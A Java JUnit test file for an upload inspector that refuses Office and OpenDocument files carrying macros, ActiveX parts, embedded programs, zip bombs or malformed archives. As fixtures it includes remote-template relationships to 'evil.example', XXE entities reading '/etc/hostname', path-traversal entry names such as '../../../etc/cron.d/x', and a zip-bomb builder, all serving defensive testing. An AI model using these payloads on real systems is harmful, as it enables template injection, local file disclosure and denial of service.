package org.sanad.evidence;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static org.assertj.core.api.Assertions.assertThat;
import static org.sanad.evidence.Samples.entries;
import static org.sanad.evidence.Samples.join;
import static org.sanad.evidence.Samples.latin1;
import static org.sanad.evidence.Samples.patched;
import static org.sanad.evidence.Samples.replaced;
import static org.sanad.evidence.Samples.sample;
import static org.sanad.evidence.Samples.utf8;
import static org.sanad.evidence.Samples.with;
import static org.sanad.evidence.Samples.zip;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sanad.evidence.Inspection.Accepted;
import org.sanad.evidence.Inspection.Reason;
import org.sanad.evidence.Inspection.Refused;

class OfficeInspectionTest {

    private static final int END = 22;

    @TempDir Path folder;

    @Test
    void refuses_a_real_macro_workbook_under_either_name() throws IOException {
        assertRefused(sample("macros.xlsm"), "assets.xlsm", Reason.MACROS);
        assertRefused(sample("macros.xlsm"), "assets.xlsx", Reason.MACROS);
    }

    @Test
    void refuses_an_opendocument_with_a_basic_library() throws IOException {
        assertRefused(sample("macros.ods"), "assets.ods", Reason.MACROS);
    }

    @ParameterizedTest
    @CsvSource({"policy.docx, word/vbaProject.bin", "assets.xlsx, xl/VBAPROJECT.BIN",
            "training.pptx, ppt/vbaProject.bin",
            "minutes.odt, Basic/Standard/Module1.xml", "assets.ods, Scripts/python/run.py"})
    void refuses_a_document_with_a_macro_part(String sample, String part) throws IOException {
        assertRefused(with(sample, part, utf8("x")), sample, Reason.MACROS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-office.vbaProject",
                    "application/vnd.ms-excel.macrosheet+xml", "application/vnd.ms-office.activeX+xml"})
    void refuses_a_document_that_declares_an_active_part(String type) throws IOException {
        String override = "<Override PartName=\"/word/harmless.xml\" ContentType=\"" + type + "\"/></Types>";
        assertRefused(replaced("policy.docx", "[Content_Types].xml", "</Types>", override), "policy.docx",
                Reason.MACROS);
    }

    @ParameterizedTest
    @CsvSource({"assets.xlsx, xl/macrosheets/sheet1.xml", "assets.xlsx, xl/MacroSheets/intlsheet1.xml",
            "assets.xlsx, xl/dialogsheets/sheet1.xml",
            "assets.xlsx, xl\\macrosheets\\sheet1.xml", "assets.xlsx, xl/macro%73heets/sheet1.xml",
            "policy.docx, word/activeX/activeX1.bin",
            "policy.docx, customXml/vbaProject.bin", "training.pptx, ppt/vbaData.xml"})
    void refuses_an_active_part_that_nothing_declares(String sample, String part) throws IOException {
        assertRefused(with(sample, part, utf8("<x/>")), sample, Reason.MACROS);
    }

    @ParameterizedTest
    @CsvSource({"policy.docx, word/embeddings/setup.exe", "assets.xlsx, xl/embeddings/run.VBS",
            "training.pptx, ppt/media/payload.js", "policy.docx, word/x.lnk"})
    void refuses_a_part_named_like_a_program(String sample, String part) throws IOException {
        assertRefused(with(sample, part, utf8("x")), sample, Reason.PROGRAM);
    }

    @ParameterizedTest
    @CsvSource({"policy.docx, word/_rels/settings.xml.rels, attachedTemplate",
            "policy.docx, word/_rels/webSettings.xml.rels, frame",
            "policy.docx, WORD/_RELS/SETTINGS.XML.RELS, ATTACHEDTEMPLATE",
            "minutes-libreoffice.docx, word/_rels/footnotes.xml.rels, oleObject",
            "assets.xlsx, xl/worksheets/_rels/sheet1.xml.rels, oleObject",
            "assets-libreoffice.xlsx, xl/_rels/orphan.rels, subDocument",
            "training.pptx, ppt/_rels/loose.xml.rels, oleObject",
            "policy.docx, word/_rels/settings.xml.rels, attached%54emplate",
            "policy.docx, word/_rels/settings.xml.rels, aFChunk",
            "policy.docx, word/_rels/settings.xml.re%6Cs, attachedTemplate"})
    void refuses_a_document_that_loads_what_runs_from_elsewhere(String sample, String part, String kind)
            throws IOException {
        assertRefused(
                with(sample, part, relations(relation(kind, "https://evil.example/t.dotm", "TargetMode=\"External\""))),
                sample, Reason.MACROS);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "<r:Relationships xmlns:r='u'><r:Relationship Id='a' Type=' "
                    + "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate ' "
                    + "Target='//evil.example/t' TargetMode=' external '/></r:Relationships>",
            "<Relationships><Relationship Type='x/attachedTemplate' Target='t' "
                    + "TargetMode='&#69;xternal'/></Relationships>",
            "<r xmlns:o='u'><relationship o:type='x/oleObject' o:target='t' o:targetmode='External'/></r>",
            "<r><Relationship Type='x/attachedTemplate' Target='file:///\\\\evil\\t.dotm'/></r>",
            "<r><Relationship Type='x/attachedTemplate' Target='file:///C:\\..\\..' "
                    + "TargetMode='External'/><Relationship Type='x/attachedTemplate' "
                    + "Target='file://evil/c:/t.dotm'/></r>",
            "<r><Relationship Type='x/frame' Target='\\\\evil\\t.htm'/></r>"})
    void refuses_a_template_from_elsewhere_however_it_is_written(String xml) throws IOException {
        assertRefused(with("policy.docx", "word/_rels/settings.xml.rels", utf8(xml)), "policy.docx", Reason.MACROS);
        assertRefused(with("policy.docx", "word/_rels/settings.xml.rels", xml.getBytes(UTF_16)), "policy.docx",
                Reason.MACROS);
    }

    @ParameterizedTest
    @ValueSource(strings = {"vbaProject", "xlMacrosheet", "control"})
    void refuses_a_tie_to_an_active_part_under_a_harmless_name(String kind) throws IOException {
        assertRefused(
                with("assets.xlsx", "xl/_rels/more.xml.rels", relations(relation(kind, "worksheets/sheet1.xml", ""))),
                "assets.xlsx", Reason.MACROS);
    }

    @ParameterizedTest
    @ValueSource(strings = {"hyperlink", "image", "video", "externalLinkPath"})
    void accepts_links_pictures_and_values_from_elsewhere(String kind) throws IOException {
        byte[] made = with("policy.docx", "word/_rels/footnotes.xml.rels",
                relations(relation(kind, "https://partner.example/page", "TargetMode=\"External\"")));
        assertThat(inspect(made, "policy.docx")).isInstanceOf(Accepted.class);
    }

    /** As Word writes it for every letter that was begun from the firm's own template. */
    @Test
    void accepts_a_template_on_the_readers_own_drive() throws IOException {
        byte[] made = with("policy.docx", "word/_rels/settings.xml.rels", relations(relation("attachedTemplate",
                "file:///C:\\Users\\Noor\\Templates\\Letter.dotx", "TargetMode=\"External\"")));
        assertThat(inspect(made, "policy.docx")).isInstanceOf(Accepted.class);
    }

    @Test
    void accepts_a_template_and_objects_that_lie_inside() throws IOException {
        byte[] made = with("policy.docx", "word/_rels/footnotes.xml.rels",
                relations(relation("oleObject", "embeddings/oleObject1.bin", "")
                        + relation("attachedTemplate", "template.xml", "TargetMode=\"Internal\"")));
        assertThat(inspect(made, "policy.docx")).isInstanceOf(Accepted.class);
    }

    @Test
    void accepts_as_many_links_as_a_sheet_can_have() throws IOException {
        String links = IntStream.range(0, 65_530).map(i -> i * 1_103_515_245)
                .mapToObj(i -> relation("hyperlink", "https://partner.example/assets/" + Integer.toHexString(i),
                        "TargetMode=\"External\""))
                .collect(Collectors.joining());
        byte[] made = with("assets.xlsx", "xl/worksheets/_rels/sheet1.xml.rels", relations(links));
        assertThat(inspect(made, "assets.xlsx")).isInstanceOf(Accepted.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "<Relationships>",
            "<!DOCTYPE r [<!ATTLIST r TargetMode CDATA 'External'>]><r Type='x/attachedTemplate' Target='t'/>",
            "<!DOCTYPE r [<!ENTITY e SYSTEM 'file:///etc/hostname'>]><r a='&e;'/>"})
    void refuses_relations_that_cannot_be_read_alike_by_all(String xml) throws IOException {
        assertRefused(with("policy.docx", "word/_rels/settings.xml.rels", utf8(xml)), "policy.docx", Reason.BROKEN);
    }

    private static String relation(String kind, String target, String mode) {
        return "<Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                + kind + "\" Target=\"" + target + "\" " + mode + "/>";
    }

    private static byte[] relations(String relations) {
        return utf8(
                "<?xml version=\"1.0\"?><Relationships "
                        + "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + relations + "</Relationships>");
    }

    @Test
    void refuses_a_macro_project_under_a_harmless_name() throws IOException {
        byte[] container = latin1("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1");
        byte[] project = join(container, new byte[65_520], "__VBA_PROJECT".getBytes(UTF_16LE), new byte[512]);
        assertRefused(with("assets.xlsx", "xl/media/image1.png", project), "assets.xlsx", Reason.MACROS);
    }

    @Test
    void refuses_a_program_inside_a_document() throws IOException {
        assertRefused(with("policy.docx", "word/media/image1.png", latin1("MZ\u0090\0\u0003\0\0\0")), "policy.docx",
                Reason.PROGRAM);
    }

    @Test
    void refuses_an_archive_of_java_classes_even_if_it_claims_to_be_a_document() throws IOException {
        assertRefused(zip(Map.of("META-INF/MANIFEST.MF", utf8("Manifest-Version: 1.0\n"))), "policy.docx",
                Reason.PROGRAM);
        assertRefused(with("policy.docx", "META-INF/MANIFEST.MF", utf8("x")), "policy.docx", Reason.PROGRAM);
    }

    @ParameterizedTest
    @ValueSource(strings = {"files.zip", "policy.docx", "policy.pdf"})
    void refuses_a_plain_zip_under_any_name(String name) throws IOException {
        assertRefused(zip(Map.of("policy.txt", utf8("x"))), name, Reason.ARCHIVE);
    }

    @Test
    void calls_a_zip_that_cannot_be_read_an_archive_unless_it_is_named_as_a_document() throws IOException {
        byte[] half = Samples.firstHalf(zip(Map.of("policy.txt", utf8("x"))));
        assertRefused(half, "files.zip", Reason.ARCHIVE);
        assertRefused(half, "policy.docx", Reason.BROKEN);
    }

    @ParameterizedTest
    @CsvSource({"encrypted.docx", "encrypted.odt"})
    void refuses_what_opens_only_with_a_password(String sample) throws IOException {
        assertRefused(sample(sample), sample, Reason.ENCRYPTED);
    }

    @Test
    void refuses_the_formats_of_old_office_versions() throws IOException {
        assertRefused(sample("policy.doc"), "policy.doc", Reason.LEGACY_OFFICE);
        assertRefused(sample("policy.doc"), "policy.docx", Reason.LEGACY_OFFICE);
    }

    @ParameterizedTest
    @CsvSource({"policy.epub, application/epub+zip", "training.odp, application/vnd.oasis.opendocument.presentation",
            "policy.dotx, application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"})
    void refuses_other_documents_in_a_zip_and_names_them(String sample, String mediaType) throws IOException {
        assertThat(inspect(sample(sample), sample)).isEqualTo(new Refused(Reason.TYPE_NOT_ACCEPTED, sample, mediaType));
    }

    @Test
    void does_not_repeat_a_media_type_that_is_none() throws IOException {
        byte[] made = with("minutes.odt", "mimetype", utf8("<b>x</b>"));
        assertThat(inspect(made, "x.odt")).isEqualTo(new Refused(Reason.TYPE_NOT_ACCEPTED, "x.odt", "application/zip"));
    }

    @Test
    void refuses_a_package_whose_document_has_the_type_of_something_else() throws IOException {
        byte[] made = replaced("policy.docx", "[Content_Types].xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/pdf");
        assertRefused(made, "policy.pdf", Reason.TYPE_NOT_ACCEPTED);
    }

    @Test
    void refuses_a_package_that_is_both_kinds_of_document() throws IOException {
        assertRefused(with("policy.docx", "mimetype", utf8("application/vnd.oasis.opendocument.text")), "policy.docx",
                Reason.AMBIGUOUS);
    }

    @Test
    void refuses_a_manifest_that_is_no_xml_and_reads_no_outside_entity() throws IOException {
        assertRefused(with("policy.docx", "[Content_Types].xml", utf8("<Types>")), "policy.docx", Reason.BROKEN);
        byte[] made = replaced("policy.docx", "_rels/.rels", "<Relationships",
                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><Relationships a=\"&x;\"");
        assertRefused(made, "policy.docx", Reason.BROKEN);
    }

    @Test
    void refuses_a_document_without_its_main_part() throws IOException {
        Map<String, byte[]> entries = entries(sample("policy.docx"));
        entries.remove("word/document.xml");
        assertRefused(zip(entries), "policy.docx", Reason.BROKEN);
    }

    @Test
    void refuses_damage_inside_an_entry() throws IOException {
        byte[] damaged = sample("policy.docx");
        damaged[damaged.length / 2] ^= 0x40;
        assertRefused(damaged, "policy.docx", Reason.BROKEN);
    }

    @ParameterizedTest
    @ValueSource(strings = {"../../../etc/cron.d/x", "word/../../x", "/etc/passwd", "C:\\x", "word\\..\\..\\x"})
    void refuses_names_that_lead_out_of_the_archive(String entry) throws IOException {
        assertRefused(with("policy.docx", entry, utf8("x")), "policy.docx", Reason.BROKEN);
    }

    @Test
    void refuses_one_entry_of_six_hundred_megabytes_in_a_small_file() throws IOException {
        Path file = bomb(1, 600, 0);
        assertThat(Files.size(file)).isLessThan(600 * 1024 * 1024 / ZipEntries.MAX_RATIO);
        assertThat(reasonFor(file)).isEqualTo(Reason.UNPACKS_TOO_LARGE);
    }

    @Test
    void refuses_an_entry_two_hundred_times_its_packed_size_beyond_ten_megabytes() throws IOException {
        assertThat(new FileInspection().inspect(bomb(1, 10, 0), "policy.docx")).isInstanceOf(Accepted.class);
        assertThat(reasonFor(bomb(1, 11, 0))).isEqualTo(Reason.UNPACKS_TOO_LARGE);
    }

    @Test
    void refuses_many_entries_that_are_harmless_one_by_one() throws IOException {
        Path file = bomb(60, 9, 0);
        assertThat(reasonFor(file)).isEqualTo(Reason.UNPACKS_TOO_LARGE);
    }

    @Test
    void refuses_more_than_five_thousand_entries() throws IOException {
        int own = entries(sample("policy.docx")).size();
        assertThat(new FileInspection().inspect(bomb(0, 0, 5_000 - own), "policy.docx")).isInstanceOf(Accepted.class);
        assertThat(reasonFor(bomb(0, 0, 5_001 - own))).isEqualTo(Reason.UNPACKS_TOO_LARGE);
    }

    @Test
    void refuses_an_entry_that_is_longer_than_it_says() throws IOException {
        byte[] made = with("policy.docx", "word/zzz.xml", new byte[777]);
        ByteBuffer bytes = ByteBuffer.wrap(made).order(ByteOrder.LITTLE_ENDIAN);
        int directory = bytes.getInt(made.length - END + 16);
        int last = new String(made, ISO_8859_1).lastIndexOf("word/zzz.xml") - 46;
        assertThat(last).isGreaterThan(directory);
        assertThat(bytes.getInt(last + 24)).isEqualTo(777);
        bytes.putInt(last + 24, 7);
        assertRefused(made, "policy.docx", Reason.BROKEN);
    }

    @Test
    void refuses_a_directory_that_names_an_entry_otherwise_than_its_header_does() throws IOException {
        byte[] made = with("policy.docx", "word/aaa.xml", utf8("x"));
        String text = new String(made, ISO_8859_1);
        made[text.indexOf("word/aaa.xml") + 5] = 'b';
        assertRefused(made, "policy.docx", Reason.BROKEN);
    }

    @Test
    void refuses_entries_that_share_their_bytes() throws IOException {
        Map<String, byte[]> entries = entries(sample("policy.docx"));
        entries.put("word/one.xml", utf8("same"));
        entries.put("word/two.xml", utf8("same"));
        byte[] made = zip(entries);
        ByteBuffer bytes = ByteBuffer.wrap(made).order(ByteOrder.LITTLE_ENDIAN);
        String text = new String(made, ISO_8859_1);
        int one = text.lastIndexOf("word/one.xml") - 46;
        int two = text.lastIndexOf("word/two.xml") - 46;
        bytes.putInt(two + 42, bytes.getInt(one + 42));
        assertRefused(made, "policy.docx", Reason.BROKEN);
    }

    @Test
    void refuses_two_entries_of_one_name() throws IOException {
        byte[] made = with("policy.docx", "word/documenx.xml", utf8("x"));
        assertRefused(patched(made, "word/documenx.xml", "word/document.xml"), "policy.docx", Reason.BROKEN);
    }

    @Test
    void refuses_an_entry_with_a_password() throws IOException {
        byte[] made = sample("policy.docx");
        made[6] |= 1;
        assertRefused(made, "policy.docx", Reason.ENCRYPTED);
    }

    @Test
    void refuses_bytes_before_or_after_the_zip() throws IOException {
        byte[] document = sample("policy.docx");
        assertRefused(join(document, utf8("x")), "policy.docx", Reason.BROKEN);
        assertRefused(join(utf8("text before\n"), document), "policy.docx", Reason.AMBIGUOUS);
    }

    @Test
    void accepts_the_wide_end_that_streaming_writers_add() throws IOException {
        assertThat(inspect(withWideEnd(sample("assets.xlsx"), 0), "assets.xlsx")).isInstanceOf(Accepted.class);
    }

    @Test
    void refuses_a_wide_end_that_tells_otherwise_than_the_narrow_one() throws IOException {
        assertRefused(withWideEnd(sample("assets.xlsx"), 1), "assets.xlsx", Reason.BROKEN);
    }

    /** The zip64 records of APPNOTE 4.3.14 and 4.3.15 before the end of the directory. */
    private static byte[] withWideEnd(byte[] zip, int moreEntries) {
        ByteBuffer end = ByteBuffer.wrap(zip, zip.length - END, END).slice().order(ByteOrder.LITTLE_ENDIAN);
        long count = end.getShort(10) + moreEntries;
        ByteBuffer wide = ByteBuffer.allocate(76).order(ByteOrder.LITTLE_ENDIAN);
        wide.putInt(0x06064b50).putLong(44).putShort((short) 45).putShort((short) 45).putInt(0).putInt(0);
        wide.putLong(count).putLong(count).putLong(end.getInt(12)).putLong(end.getInt(16));
        wide.putInt(0x07064b50).putInt(0).putLong(zip.length - END).putInt(1);
        return join(Arrays.copyOf(zip, zip.length - END), wide.array(),
                Arrays.copyOfRange(zip, zip.length - END, zip.length));
    }

    /** A document with so many entries of so many megabytes of zeros, and so many empty ones. */
    private Path bomb(int entries, int megabytes, int empty) throws IOException {
        Path file = folder.resolve("bomb");
        byte[] zeros = new byte[1024 * 1024];
        try (OutputStream bytes = Files.newOutputStream(file); ZipOutputStream out = new ZipOutputStream(bytes)) {
            out.setLevel(Deflater.BEST_SPEED);
            for (var entry : entries(sample("policy.docx")).entrySet()) {
                out.putNextEntry(new ZipEntry(entry.getKey()));
                out.write(entry.getValue());
            }
            for (int i = 0; i < entries; i++) {
                out.putNextEntry(new ZipEntry("word/media/zeros" + i));
                for (int m = 0; m < megabytes; m++) out.write(zeros);
            }
            for (int i = 0; i < empty; i++) out.putNextEntry(new ZipEntry("word/media/empty" + i));
        }
        return file;
    }

    private static Reason reasonFor(Path file) throws IOException {
        Inspection inspection = new FileInspection().inspect(file, "policy.docx");
        assertThat(inspection).isInstanceOf(Refused.class);
        return ((Refused) inspection).reason();
    }

    private Inspection inspect(byte[] content, String name) throws IOException {
        return Samples.inspect(folder, content, name);
    }

    private void assertRefused(byte[] content, String name, Reason reason) throws IOException {
        Inspection inspection = inspect(content, name);
        assertThat(inspection).isInstanceOf(Refused.class);
        assertThat(((Refused) inspection).reason()).isEqualTo(reason);
    }
}
